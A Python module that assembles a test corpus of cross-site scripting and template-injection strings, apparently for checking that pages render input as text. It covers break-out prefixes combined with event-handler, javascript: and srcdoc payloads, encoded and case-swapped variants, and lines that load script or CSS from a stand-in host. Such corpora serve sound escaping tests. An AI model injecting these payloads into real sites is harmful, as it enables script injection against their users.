"""Texts that would be code in a page that did not show them as text."""

from collections.abc import Iterator
from html import escape
from urllib.parse import quote

BREAKS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</p>",
)
RUNS = (
    "<img src=k55 onerror=alert(55)>",
    "<svg onload=alert(55)>",
    "<script>alert(55)</script>",
    "<script src=//k55.example/a.js></script>",
    '<iframe src="javascript:alert(55)"></iframe>',
    "<iframe srcdoc='<script>parent.alert(55)</script>'></iframe>",
    '<a href="javascript:alert(55)">k55</a>',
    "<details open ontoggle=alert(55)>k55</details>",
    "<input autofocus onfocus=alert(55)>",
    "<video><source onerror=alert(55)></video>",
    "<object data=javascript:alert(55)></object>",
    "<base href=//k55.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(55)">',
    "<form action=javascript:alert(55)><button autofocus>k55</button></form>",
    "<math><mtext><style><img src onerror=alert(55)></style></mtext></math>",
    "<style>@import '//k55.example/a.css';</style>",
    "<link rel=stylesheet href=//k55.example/a.css>",
    "<template><img src onerror=alert(55)></template>",
    '" onmouseover=alert(55) autofocus onfocus=alert(55) x="',
    "' style='background:url(//k55.example/)' x='",
    "javascript:alert(55)//k55",
    "{{77*77}}{% print 77*77 %}${77*77}<%= 77*77 %>",
    "\u2028alert(55)\u2029//k55",
    "<k55 onclick=alert(55)>\u202e\u0000</k55>",
)
MOST_TOGETHER = 900
"""Characters: within what every door takes in one message."""

CORPUS = (
    *(before + run for before in BREAKS_OUT for run in RUNS),
    *(escape(run) for run in RUNS),
    *(quote(run) for run in RUNS),
    *(run.swapcase() for run in RUNS),
)


def in_messages() -> Iterator[str]:
    """Give the whole corpus in as few messages as hold it."""
    together = ""
    for one in CORPUS:
        if len(together) + len(one) > MOST_TOGETHER:
            yield together
            together = ""
        together += f"{one} "
    yield together
